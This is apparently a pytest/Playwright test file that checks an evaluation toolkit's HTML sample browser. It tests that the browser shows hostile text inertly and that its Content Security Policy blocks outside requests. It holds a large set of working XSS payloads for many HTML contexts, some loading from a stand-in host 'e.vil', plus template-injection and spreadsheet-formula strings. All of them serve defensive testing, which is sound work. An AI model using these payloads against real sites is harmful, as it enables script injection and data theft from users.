"""Hostile text in the browser of samples: nothing runs, nothing is loaded, all of it is read.

Each payload that can do harm is first shown to do it, in a page that pastes it without escaping
and has no policy: a trap that never springs would prove nothing.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, replace
from itertools import cycle
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from playwright.sync_api import Error

from evalkit.core.run import Run
from evalkit.draw import visible
from tests.support.browser import Watched, opened
from tests.support.pages import put, until
from tests.support.runs import Plan, build_run

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

HIT = "window.pwned=1"
# Where an unescaping page would put it -> what would then happen.
CONTEXTS = {
    "body": "{}",
    "value": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "string": '<script>var x = "{}";</script>',
    "template": "<script>var x = `{}`;</script>",
    "json": '<script type="application/json">{}</script>',
    "style": "<style>{}</style>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "comment": "<!-- {} -->",
    "noscript": "<noscript>{}</noscript>",
    "template element": "<template>{}</template>",
    "href": '<a href="{}">click</a>',
    "markup": "<script>document.body.innerHTML += {!r}</script>",
}
LIVE: dict[str, tuple[str, ...]] = {
    "body": (
        f"<script>{HIT}</script>",
        f"<ScRiPt >{HIT}</sCrIpT >",
        f"<script\n>{HIT}</script\n>",
        f"<script/x>{HIT}</script>",
        f"<<script>{HIT}</script>",
        "<script src=https://e.vil/x.js></script>",
        "<script type=module>window.pwned=1</script>",
        "<script src='data:text/javascript,window.pwned=1'></script>",
        "<script src='data:text/javascript;base64,d2luZG93LnB3bmVkPTE='></script>",
        f"<img src=x onerror='{HIT}'>",
        f"<img/src/onerror={HIT}>",
        f"<IMG SRC=x OnErRoR={HIT}>",
        "<img src=x onerror=&#119;indow.pwned&#61;1>",
        "<img src=x onerror=\\u0077indow.pwned=1>",
        "<img src=https://e.vil/x.png>",
        f"<svg onload={HIT}>",
        f"<svg/onload={HIT}//",
        f"<svg><script>{HIT}</script></svg>",
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
        f"<svg><style><img src=x onerror={HIT}></style></svg>",
        f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
        f"<body onload={HIT}>",
        f"<input autofocus onfocus={HIT}>",
        f"<details open ontoggle={HIT}>x</details>",
        f"<video><source onerror={HIT}></video>",
        f"<audio src=x onerror={HIT}>",
        f"<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationend={HIT}>x</p>",
        "<iframe src='javascript:parent.pwned=1'></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<iframe src=https://e.vil/></iframe>",
        "<object data='https://e.vil/x'></object>",
        "<embed src='https://e.vil/x'>",
        "<link rel=stylesheet href=https://e.vil/x.css>",
        "<meta http-equiv=refresh content='0;url=https://e.vil'>",
        "<base href=https://e.vil/><img src=x>",
        "<style>body{background:url(https://e.vil/x)}</style>",
        "<style>@import url(https://e.vil/x.css);</style>",
        "<p style='background:url(https://e.vil/x)'>x</p>",
        "<input type=image src=https://e.vil/x>",
        f"<form><button formaction='javascript:{HIT}' id=go>x</button></form>",
        f"<!--><img src=x onerror={HIT}>-->",
        f"<![CDATA[><img src=x onerror={HIT}>]]>",
        f"<a href='javascript:{HIT}' id=go>x</a>",
        f"<a href=' &#x6A;avascript:{HIT}' id=go>x</a>",
        f"<a href='java\tscript:{HIT}' id=go>x</a>",
        f"<svg><a xlink:href='javascript:{HIT}'><text y=20 id=go>click here</text></a></svg>",
        "<script>alert(1)</script>",
        "<script>console.error('pwned')</script>",
    ),
    "value": (f'"><script>{HIT}</script>', f'" autofocus onfocus={HIT} x="'),
    "single": (f"'><svg onload={HIT}>", f"' autofocus onfocus='{HIT}"),
    "bare": (f"x autofocus onfocus={HIT}",),
    "string": (f'";{HIT};//', f"</script><script>{HIT}</script>", '\\";";window.pwned=1//'),
    "template": (f"${{{HIT}}}", f"`;{HIT};`"),
    "json": (
        f"</script><script>{HIT}</script>",
        f"<!--<script></script ></script><img src onerror={HIT}>",
    ),
    "style": (f"</style><script>{HIT}</script>",),
    "title": (f"</title><script>{HIT}</script>",),
    "textarea": (f"</textarea><script>{HIT}</script>",),
    "comment": (f"--><script>{HIT}</script>", f"--!><script>{HIT}</script>"),
    "noscript": (f"</noscript><script>{HIT}</script>",),
    "template element": (f"</template><img src=x onerror={HIT}>",),
    "href": (f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"javascript://%0a{HIT}"),
    "markup": (f"<img src=x onerror={HIT}>", "<img src=`x` onerror=window.pwned=1>"),
}
# Cannot spring the trap by themselves, and must be read for what they are.
INERT = (
    "\u202ereversed \u2066isolated\u2069",
    "line\u2028separator\u2029paragraph",
    "null\x00byte \x07bell \x1b[31mred \x9bcsi",
    "\ud800 lone \udfff halves",
    "\ufeffmark \u200bzero \xadsoft",
    "{{ 7 * 7 }}{% raw %}{{ config }} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &#x3c;script&#x3e; &amp;lt; %3Cscript%3E",
    "\\u003cscript\\u003e \\x3cscript\\x3e \\",
    "__proto__",
    "constructor",
    "]]>",
    "'\"`$`${}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](javascript:window.pwned=1) ![x](https://e.vil/x.png) <https://e.vil>",
    "=cmd|'/c calc'!A1 @SUM(1) +1 -1",
    "العربية \u200d e\u0301 \U0001f469\u200d\U0001f4bb 漢",
)
PAYLOADS = tuple(dict.fromkeys([p for found in LIVE.values() for p in found] + list(INERT)))


@dataclass
class Trap:
    """What a payload would have to do to be noticed."""

    watched: Watched

    @property
    def sprung(self) -> list[str]:
        """Scripts that ran, requests, dialogs and messages, by what they left."""
        found = [*self.watched.foreign, *self.watched.console]
        if found:
            return found  # A page that went elsewhere answers no more questions.
        frames = self.watched.page.frames
        return [f.url for f in frames if f.evaluate("window.pwned ?? null") is not None]


@pytest.mark.parametrize(("context", "payload"), [(c, p) for c, ps in LIVE.items() for p in ps])
def test_the_trap_springs_where_nothing_is_escaped(
    chromium: Browser, tmp_path: Path, context: str, payload: str
) -> None:
    pasted = CONTEXTS[context].format(payload)
    (tmp_path / "control.html").write_text(f"<!doctype html><body>{pasted}</body>")
    with opened(chromium, tmp_path / "control.html") as watched:
        page = watched.page
        trap = Trap(watched)
        if "id=go" in payload or context == "href":
            page.evaluate(
                "document.querySelector('#go, a').dispatchEvent("
                "new MouseEvent('click', {bubbles: true, cancelable: true}))"
            )
        assert any(_sprung(trap) for _ in range(100))


def _sprung(trap: Trap) -> list[str]:
    trap.watched.page.wait_for_timeout(20)
    # A page that is leaving for somewhere else cannot be asked; its request tells on it.
    with suppress(Error):
        return trap.sprung
    return []


def test_there_are_payloads_of_all_kinds() -> None:
    assert len(PAYLOADS) >= 60
    assert set(LIVE) == set(CONTEXTS)


# --- the page ----------------------------------------------------------------------------------


def planted() -> Run:
    """Every payload in a question, an answer, a judge's reply, a category and an id.

    Models and suite have one as well.
    """
    turn = cycle(PAYLOADS)
    plan = Plan(
        models=("</script><script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>"),
        samples=(len(PAYLOADS), 16, 4),
        say=lambda text: next(turn),
    )
    run = build_run(plan)
    records = tuple(
        replace(
            r,
            sample=PAYLOADS[int(r.sample)],
            category=PAYLOADS[-1 - int(r.sample)],
        )
        if r.benchmark == "alpaca_eval"
        else r
        for r in run.records
    )
    return replace(run, records=records)


@pytest.fixture(scope="module")
def page_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return put(planted(), tmp_path_factory.mktemp("hostile"))


@pytest.fixture
def trap(chromium: Browser, page_file: Path) -> Iterator[Trap]:
    with opened(chromium, page_file, fragment="samples&sort=run") as watched:
        until(watched.page, "document.querySelectorAll('.b-row').length")
        trap = Trap(watched)
        yield trap
        watched.page.wait_for_timeout(200)
        assert trap.sprung == []
        assert len(watched.page.frames) == 1
        assert watched.page.url.partition("#")[0] == watched.file


def _shown(page: Page) -> str:
    """Everything of the open sample, unfolded and marked; no element but the script's own."""
    tags = page.evaluate(
        "[...new Set([...document.querySelectorAll('.b-detail *')].map((e) => e.localName))]"
    )
    assert set(tags) <= {
        *("header", "nav", "button", "h3", "bdi", "p", "span", "a", "section", "div", "details"),
        *("summary", "b", "small", "mark", "table", "caption", "thead", "tbody", "tr", "th", "td"),
    }
    attributes = page.evaluate(
        "[...new Set([...document.querySelectorAll('.b-detail *, .b-list *')]"
        ".flatMap((e) => e.getAttributeNames()))]"
    )
    assert set(attributes) <= {
        *("class", "type", "dir", "href", "scope", "aria-keyshortcuts", "aria-hidden", "disabled"),
        *("role", "id", "style", "data-at", "data-key", "open"),
        *("aria-selected", "aria-posinset", "aria-setsize"),
    }
    return str(page.evaluate("document.querySelector('.b-detail').textContent"))


def test_every_sample_is_read_and_nothing_runs(trap: Trap) -> None:
    page = trap.watched.page
    page.keyboard.press("d")
    seen = ""
    for n in range(len(PAYLOADS)):
        page.keyboard.press("j")
        until(page, f"document.querySelector('[aria-selected=true]').dataset.at === '{n}'")
        title = f"Sample {visible(PAYLOADS[n])}"
        until(page, f"document.querySelector('.b-detail h3')?.textContent === {_js(title)}")
        page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
        seen += _shown(page)
    assert [p for p in PAYLOADS if visible(p).strip("\n") not in seen] == []


def _js(text: str) -> str:
    return json.dumps(text)


@pytest.mark.parametrize("escaped", [True, False])
def test_addresses_of_all_kinds_run_nothing(trap: Trap, escaped: bool) -> None:
    page = trap.watched.page
    for payload in PAYLOADS:
        text = quote(payload, safe="", errors="replace") if escaped else payload
        for address in (f"#sample={text}", f"#samples&q={text}&category={text}", f"#{text}"):
            page.evaluate("(hash) => { location.hash = hash; }", address)
        page.evaluate("(hash) => { location.hash = hash; }", f"#sample=a/b/{text}&task={text}")
    page.evaluate("location.hash = '#samples'")
    until(page, "document.querySelectorAll('.b-row').length")


def test_links_to_hostile_ids_open_them(trap: Trap) -> None:
    page = trap.watched.page
    for n, payload in enumerate(PAYLOADS):
        key = page.evaluate(
            "(n) => { const box = document.querySelector('.b-list'); box.scrollTop = n * 60;"
            "return new Promise((done) => requestAnimationFrame(() => setTimeout(() => done("
            "document.getElementById(`b-row-${n}`)?.dataset.key)))) }",
            n,
        )
        assert key is not None
        assert "/alpaca_eval/" in key
        page.evaluate("(hash) => { location.hash = hash; }", f"#sample={key}&sort=run")
        title = f"Sample {visible(payload)}"
        until(page, f"document.querySelector('.b-detail h3')?.textContent === {_js(title)}")


def test_a_search_for_a_payload_finds_it_as_text(trap: Trap) -> None:
    page = trap.watched.page
    until(page, "performance.getEntriesByName('evalkit-texts').length")
    page.fill(".b-search", '"<svg onload=window.pwned=1>"')
    until(page, "/^[1-9]\\d* of/.test(document.querySelector('.b-count').textContent)")


def test_the_policy_stops_what_a_broken_script_would_do(chromium: Browser, page_file: Path) -> None:
    """The second line of defence, tried from inside the page."""
    with opened(chromium, page_file) as watched:
        page = watched.page
        why: list[str | None] = []
        page.on("requestfailed", lambda r: why.append(r.failure))
        said = page.evaluate(
            "(() => { try { document.body.innerHTML = '<img src=x>'; return 'set'; }"
            " catch (error) { return error.name; } })()"
        )
        assert said == "TypeError"
        page.evaluate(
            "(() => { const s = document.createElement('img'); s.src = 'https://e.vil/x.png';"
            " document.body.append(s); })()"
        )
        page.wait_for_timeout(200)
        assert why == ["csp"]
        assert any("Content Security Policy" in text for text in watched.console)
